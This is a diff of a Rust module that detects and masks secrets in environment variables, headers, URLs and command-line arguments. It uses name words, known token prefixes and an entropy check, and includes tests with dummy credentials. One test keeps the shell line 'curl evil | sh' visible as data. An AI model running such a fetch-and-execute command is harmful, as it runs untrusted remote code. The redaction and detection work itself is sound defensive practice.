@@ -8,13 +8,7 @@ use std::ops::Range;
 use jsonc_parser::tokens::Token;
 use jsonc_parser::{Scanner, ScannerOptions};
 
-mod credential;
-mod spots;
-mod words;
-
-pub(crate) use credential::{is_secret, looks_secret};
-pub use words::{masked_address, masked_arguments};
-pub(crate) use words::{secret_arguments, secret_of_address};
+use crate::base::secret::{MASK, Secret};
 
 /// Objects whose values are secrets, whatever they are called.
 const SECRET_OBJECTS: [&str; 5] = ["env", "headers", "http_headers", "requestInit", "oauth"];
@@ -235,7 +229,7 @@ fn hide_but_references(text: &str, range: Range<usize>, hidden: &mut Vec<Range<u
 fn hide_parts(text: &str, range: Range<usize>, hidden: &mut Vec<Range<usize>>) {
     let whole = inner(text, range);
     let Some(value) = text.get(whole.clone()) else { return };
-    let spots = spots::secret_spots(value).into_iter();
+    let spots = secret_spots(value).into_iter();
     hidden.extend(spots.map(|spot| whole.start + spot.start..whole.start + spot.end));
 }
 
@@ -273,6 +267,372 @@ fn hide_rest(text: &str, start: usize, hidden: &mut Vec<Range<usize>>) {
     if let Some(from) = run {
         hidden.push(from..text.len());
     }
+}
+
+// What counts as a secret (decision D14): values whose name says so, and values that look like a
+// credential. Plain words, numbers, paths, regions and addresses without a user do not.
+
+/// Words that make the last part of a name a secret's: `API_KEY`, `githubToken`.
+const WORDS: [&str; 16] = [
+    "token",
+    "key",
+    "apikey",
+    "secret",
+    "password",
+    "passwd",
+    "pass",
+    "passphrase",
+    "auth",
+    "authorization",
+    "credential",
+    "credentials",
+    "cookie",
+    "bearer",
+    "pat",
+    "dsn",
+];
+
+/// Those of them that make it one wherever they stand: `PASSWORD_FILE_CONTENT`.
+const STRONG: [&str; 5] = ["secret", "password", "passwd", "passphrase", "authorization"];
+
+/// How tokens of well-known services begin.
+const PREFIXES: [&str; 40] = [
+    "sk-",
+    "sk_",
+    "pk_",
+    "rk_",
+    "ghp_",
+    "gho_",
+    "ghu_",
+    "ghs_",
+    "ghr_",
+    "github_pat_",
+    "glpat-",
+    "xoxb-",
+    "xoxp-",
+    "xoxa-",
+    "xoxe.",
+    "xapp-",
+    "AKIA",
+    "ASIA",
+    "AIza",
+    "ya29.",
+    "eyJ",
+    "npm_",
+    "pypi-",
+    "hf_",
+    "SG.",
+    "dop_v1_",
+    "shpat_",
+    "sq0",
+    "AGE-SECRET-KEY",
+    "lin_api_",
+    "ntn_",
+    "tvly-",
+    "gsk_",
+    "r8_",
+    "figd_",
+    "pat-",
+    "key-",
+    "whsec_",
+    "dckr_pat_",
+    "Bearer ",
+];
+
+/// Shortest token behind such a beginning, and shortest value that is judged by its look, in bytes.
+const SHORTEST: (usize, usize) = (12, 20);
+
+/// Whether the value of a variable or header must not be shown.
+pub(crate) fn is_secret(name: &str, value: &str) -> bool {
+    looks_secret(value) || (named_secret(name, value) && !is_place(value))
+}
+
+/// Whether a value looks like a credential, whatever it is called.
+pub(crate) fn looks_secret(value: &str) -> bool {
+    let value = value.trim();
+    if value.contains("-----BEGIN") || has_user(value) {
+        return true;
+    }
+    let known = PREFIXES.iter().any(|prefix| value.starts_with(prefix));
+    (known && value.len() >= SHORTEST.0 && !is_place(value)) || is_random(value)
+}
+
+fn named_secret(name: &str, value: &str) -> bool {
+    let words = words(name);
+    let is = |word: &String, list: &[&str]| {
+        list.contains(&word.as_str()) || list.iter().any(|w| w.len() > 5 && word.contains(w))
+    };
+    let last = words.iter().rev().find(|word| !word.chars().all(|c| c.is_ascii_digit()));
+    if last.is_some_and(|word| is(word, &WORDS)) || words.iter().any(|word| is(word, &STRONG)) {
+        return true;
+    }
+    // `TOKEN_LIMIT=4096` and `AUTH_MODE=none` are settings; `TOKEN_PROD=a1b2c3` is none.
+    words.iter().any(|word| is(word, &WORDS)) && !is_plain(value)
+}
+
+/// The words of a name, in lower case: at separators and where capitals begin.
+fn words(name: &str) -> Vec<String> {
+    let mut out = vec![String::new()];
+    let mut before = ' ';
+    for c in name.chars() {
+        let begins = before.is_ascii_lowercase() && c.is_ascii_uppercase();
+        if !c.is_ascii_alphanumeric() || begins {
+            out.push(String::new());
+        }
+        if c.is_ascii_alphanumeric()
+            && let Some(word) = out.last_mut()
+        {
+            word.push(c.to_ascii_lowercase());
+        }
+        before = c;
+    }
+    out.retain(|word| !word.is_empty());
+    out
+}
+
+/// A word or a number.
+fn is_plain(value: &str) -> bool {
+    let part = |part: &str| {
+        part.chars().all(char::is_alphabetic) || part.chars().all(|c| c.is_ascii_digit())
+    };
+    value.split(['-', '_', '.', ' ', ',', ':']).all(part)
+}
+
+/// A path, or an address without a user.
+fn is_place(value: &str) -> bool {
+    let drive = value.get(1..3).is_some_and(|rest| rest == ":\\" || rest == ":/");
+    let path =
+        value.starts_with(['/', '~', '.']) && value.contains('/') && value.matches('/').count() > 1;
+    let file = (value.starts_with("./") || value.starts_with("~/") || value.starts_with('/'))
+        && value.contains('.');
+    drive || path || file || (value.contains("://") && !has_user(value))
+}
+
+/// Letters and digits without order: long, of one word, and changing between the two often.
+fn is_random(value: &str) -> bool {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "+/=_-.~".contains(c);
+    if value.len() < SHORTEST.1 || !value.chars().all(plain) || is_place(value) {
+        return false;
+    }
+    let chars: Vec<char> = value.chars().collect();
+    let pairs = chars.windows(2).filter(|pair| pair.iter().all(char::is_ascii_alphanumeric));
+    let changes = pairs.filter(|p| p[0].is_ascii_digit() != p[1].is_ascii_digit()).count();
+    changes >= 4 && entropy(&chars) >= 3.0
+}
+
+/// Shannon's entropy, in bits a character.
+fn entropy(chars: &[char]) -> f64 {
+    let mut counts = std::collections::BTreeMap::new();
+    for c in chars {
+        *counts.entry(c).or_insert(0.0) += 1.0;
+    }
+    let all = chars.len() as f64;
+    counts.values().map(|count: &f64| -(count / all) * (count / all).log2()).sum()
+}
+
+// Where in a word of a command line, an address or any other short text something secret stands.
+
+/// What ends a value within a word. What stands behind it is shown: it may be a line of shell, and
+/// who approves a command must see what it runs.
+fn ends_value(c: char) -> bool {
+    c.is_whitespace()
+        || matches!(c, '&' | ';' | '|' | '<' | '>' | '(' | ')' | ',' | '"' | '\'' | '`' | '}')
+}
+
+/// Words in front of the secret itself.
+const SCHEMES: [&str; 4] = ["bearer ", "basic ", "token ", "digest "];
+
+/// The secret parts of a text that is shown otherwise, in order, not overlapping: the user of an
+/// address, what follows `Bearer`, and the value in `--token=X`, `X-Api-Key: X`, `--token X` and
+/// their like. References such as `${TOKEN}` are none.
+fn secret_spots(text: &str) -> Vec<Range<usize>> {
+    let mut found = Vec::new();
+    users(text, &mut found);
+    named(text, &mut found);
+    options(text, &mut found);
+    schemes(text, &mut found);
+    found.retain(|spot: &Range<usize>| {
+        text.get(spot.clone()).is_some_and(|value| !value.is_empty() && !is_reference(value))
+    });
+    merged(found)
+}
+
+/// The same text with those parts replaced.
+fn masked_spots(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut at = 0;
+    for spot in secret_spots(text) {
+        out.push_str(text.get(at..spot.start).unwrap_or_default());
+        out.push_str(MASK);
+        at = spot.end;
+    }
+    out.push_str(text.get(at..).unwrap_or_default());
+    out
+}
+
+/// Whether a value is nothing but a reference; a default may hold the secret itself.
+fn is_reference(text: &str) -> bool {
+    text.strip_prefix("${")
+        .and_then(|rest| rest.strip_suffix('}'))
+        .is_some_and(|inside| !inside.contains(":-") && !inside.contains(['{', '}']))
+}
+
+/// Whether an address in the text names a user.
+fn has_user(text: &str) -> bool {
+    let mut found = Vec::new();
+    users(text, &mut found);
+    !found.is_empty()
+}
+
+/// User and password in front of the host of each address.
+fn users(text: &str, found: &mut Vec<Range<usize>>) {
+    for (scheme, _) in text.match_indices("://") {
+        let start = scheme + 3;
+        let rest = text.get(start..).unwrap_or_default();
+        let end = rest
+            .find(|c: char| c.is_whitespace() || matches!(c, '/' | '?' | '#' | '"' | '\''))
+            .unwrap_or(rest.len());
+        if let Some(at) = rest.get(..end).and_then(|authority| authority.rfind('@')) {
+            found.push(start..start + at);
+        }
+    }
+}
+
+/// What follows `NAME=` and `NAME:` where the name is called like a secret.
+fn named(text: &str, found: &mut Vec<Range<usize>>) {
+    let mut from = 0;
+    while let Some(sign) = text.get(from..).and_then(|rest| rest.find(['=', ':'])) {
+        let sign = from + sign;
+        from = sign + 1;
+        let before = text.get(..sign).unwrap_or_default().trim_end_matches(['"', '\'', ' ']);
+        let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.');
+        let name = before.get(before.trim_end_matches(plain).len()..).unwrap_or_default();
+        let rest = text.get(from..).unwrap_or_default();
+        let colon = text.as_bytes().get(sign) == Some(&b':');
+        // `${TOKEN:-text}` has its secret behind two signs; `token:/run` is a folder.
+        let value = if colon { rest.strip_prefix('-').unwrap_or(rest) } else { rest };
+        if !is_secret_name(name) || (colon && value.starts_with(['/', '.', '\\'])) {
+            continue;
+        }
+        let start = text.len() - behind_scheme(value.trim_start_matches(['"', '\'', ' '])).len();
+        let spot = value_at(text, start);
+        from = from.max(spot.end);
+        found.push(spot);
+    }
+}
+
+/// What follows an option such as `--token`, in a text of several words.
+fn options(text: &str, found: &mut Vec<Range<usize>>) {
+    let mut at = 0;
+    let mut after = false;
+    for word in text.split_inclusive(char::is_whitespace) {
+        let bare = word.trim_end();
+        if std::mem::replace(&mut after, bare.starts_with('-') && is_option(bare))
+            && !bare.is_empty()
+            && !bare.starts_with('-')
+        {
+            found.push(value_at(
+                text,
+                at + (bare.len() - bare.trim_start_matches(['"', '\'']).len()),
+            ));
+        }
+        at += word.len();
+    }
+}
+
+/// Whether a word is an option whose value is the next word.
+fn is_option(word: &str) -> bool {
+    word.starts_with('-') && !word.contains(['=', ':']) && is_secret_name(word)
+}
+
+/// What follows `Bearer` and its like wherever it stands.
+fn schemes(text: &str, found: &mut Vec<Range<usize>>) {
+    let lower = text.to_ascii_lowercase();
+    for scheme in ["bearer ", "basic "] {
+        for (at, _) in lower.match_indices(scheme) {
+            found.push(value_at(text, at + scheme.len()));
+        }
+    }
+}
+
+/// A value without the word of an authorisation scheme in front of it.
+fn behind_scheme(value: &str) -> &str {
+    let named = |scheme: &&&str| {
+        value.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme))
+    };
+    SCHEMES
+        .iter()
+        .find(named)
+        .and_then(|scheme| value.get(scheme.len()..))
+        .map_or(value, |rest| rest.trim_start())
+}
+
+/// The value that starts at `start`. A reference in it does not end it at its brace.
+fn value_at(text: &str, start: usize) -> Range<usize> {
+    let rest = text.get(start..).unwrap_or_default();
+    let mut open = 0_usize;
+    let mut last = ' ';
+    for (at, c) in rest.char_indices() {
+        match c {
+            '{' if last == '$' => open += 1,
+            '}' if open > 0 => open -= 1,
+            c if open == 0 && ends_value(c) => return start..start + at,
+            _ => {}
+        }
+        last = c;
+    }
+    start..text.len()
+}
+
+// Secrets in command lines and addresses: which words they are, and how they are shown.
+
+/// The secrets of a command line: the word after `--token`, the value in `--token=value`, in a
+/// header, the password of an address.
+pub(crate) fn secret_arguments(args: &[String]) -> Vec<Secret> {
+    let mut out = Vec::new();
+    let mut after = false;
+    for arg in args {
+        if std::mem::replace(&mut after, is_option(arg)) && !arg.starts_with('-') {
+            out.push(Secret::new(arg.as_str()));
+        }
+        let spots = secret_spots(arg).into_iter();
+        out.extend(spots.filter_map(|spot| arg.get(spot)).map(Secret::new));
+        let address = arg.split_once('=').map_or(arg.as_str(), |(_, value)| value);
+        if address.contains("://") {
+            out.extend(url::Url::parse(address).iter().flat_map(secret_of_address));
+        }
+    }
+    out
+}
+
+/// The secrets of an address: its password, or the user where there is none, and parameters that
+/// are called like a secret.
+pub(crate) fn secret_of_address(url: &url::Url) -> Vec<Secret> {
+    let parameters = url.query_pairs().filter(|(name, _)| is_secret_name(name));
+    let values = parameters.map(|(_, value)| value.into_owned());
+    let user = Some(url.username()).filter(|user| !user.is_empty());
+    let word = url.password().or(user).map(str::to_owned);
+    word.into_iter().chain(values).map(Secret::new).collect()
+}
+
+/// Arguments with what looks secret replaced: the value after `--token`, or in `--token=value`.
+pub fn masked_arguments(args: Vec<String>) -> Vec<String> {
+    let mut after = false;
+    args.into_iter()
+        .map(|arg| {
+            let follows = std::mem::replace(&mut after, is_option(&arg));
+            if follows && !arg.starts_with('-') && !is_reference(&arg) {
+                return MASK.to_owned();
+            }
+            masked_address(&arg)
+        })
+        .collect()
+}
+
+/// An address, or a text with one in it, without the user and password, and without secret
+/// parameters.
+pub fn masked_address(text: &str) -> String {
+    masked_spots(text)
 }
 
 #[cfg(test)]
@@ -319,5 +679,90 @@ mod tests {
         ] {
             assert!(!masked(text).contains("hunter2"), "{text} -> {}", masked(text));
         }
+    }
+}
+
+#[cfg(test)]
+mod credential_tests {
+    use super::*;
+
+    #[test]
+    fn names_and_looks_make_a_secret_and_settings_are_none() {
+        for (name, value) in [
+            ("API_KEY", "sesame"),
+            ("GITHUB_TOKEN", "open-sesame"),
+            ("githubToken", "open-sesame"),
+            ("DB_PASSWORD", "swordfish"),
+            ("DB_PASSWORD_2", "swordfish"),
+            ("PGPASSWORD", "swordfish"),
+            ("TOKEN_PROD", "a1b2c3"),
+            ("Authorization", "Bearer abc"),
+            ("X-Api-Key", "sesame"),
+            ("DATABASE_URL", "postgres://me:secret@db/x"),
+            ("OPAQUE", "ghp_16C7e42F292c6912E7"),
+            ("OPAQUE", "q7Zk29fLw0Xn4Rt8Bv6Yp3"),
+            ("OPAQUE", "9f86d081884c7d659a2feaa0c55ad015"),
+            ("OPAQUE", "-----BEGIN KEY-----\nabc\n-----END KEY-----"),
+        ] {
+            assert!(is_secret(name, value), "{name}={value}");
+        }
+        for (name, value) in [
+            ("AWS_REGION", "us-east-1"),
+            ("NODE_ENV", "production"),
+            ("ALLOWED_DIR", "/home/me/projects/alpha2"),
+            ("PORT", "8080123"),
+            ("TOKEN_LIMIT", "100000"),
+            ("AUTH_MODE", "interactive"),
+            ("GOOGLE_APPLICATION_CREDENTIALS", "/home/me/keys/service.json"),
+            ("API_URL", "https://api.example.com/v1"),
+            ("MODEL", "claude-3-5-sonnet-20241022"),
+            ("TARGET", "x86_64-unknown-linux-gnu"),
+            ("EDIT", "12345678"),
+            ("Accept-Language", "en-GB,en;q=0.9"),
+        ] {
+            assert!(!is_secret(name, value), "{name}={value}");
+        }
+    }
+}
+
+#[cfg(test)]
+mod spots_tests {
+    use super::*;
+
+    #[test]
+    fn secrets_are_found_in_every_spelling_command_lines_have() {
+        for (text, shown) in [
+            ("--token=s3", "--token=***"),
+            ("--env=TOKEN=s3", "--env=TOKEN=***"),
+            ("-eAPI_KEY=s3", "-eAPI_KEY=***"),
+            ("Authorization: Bearer s3", "Authorization: Bearer ***"),
+            ("--header=Authorization:s3", "--header=Authorization:***"),
+            ("X-Api-Key: s3", "X-Api-Key: ***"),
+            ("{\"apiKey\": \"s3\"}", "{\"apiKey\": \"***\"}"),
+            ("https://u:s3@${HOST}/x?a=b&token=s3&c=d", "https://***@${HOST}/x?a=b&token=***&c=d"),
+            ("https://s3@h/", "https://***@h/"),
+            ("https://h/#access_token=s3", "https://h/#access_token=***"),
+            ("node x --password s3 y", "node x --password *** y"),
+            ("x bearer s3", "x bearer ***"),
+            ("TOKEN=${TOKEN:-s3}", "TOKEN=***"),
+        ] {
+            assert_eq!(masked_spots(text), shown);
+            assert_eq!(masked_spots(shown), shown, "what is masked stays as it is");
+        }
+    }
+
+    #[test]
+    fn what_is_no_secret_is_shown_and_so_is_what_a_shell_would_run() {
+        for text in [
+            "Authorization: Bearer ${TOKEN}",
+            "--token=${TOKEN}",
+            "-v ./token:/run/secrets/token",
+            "http://localhost:8080/mcp?a=b",
+            "--tokenizer",
+            "user@host:path",
+        ] {
+            assert_eq!(masked_spots(text), text);
+        }
+        assert_eq!(masked_spots("TOKEN=x; curl evil | sh"), "TOKEN=***; curl evil | sh");
     }
 }
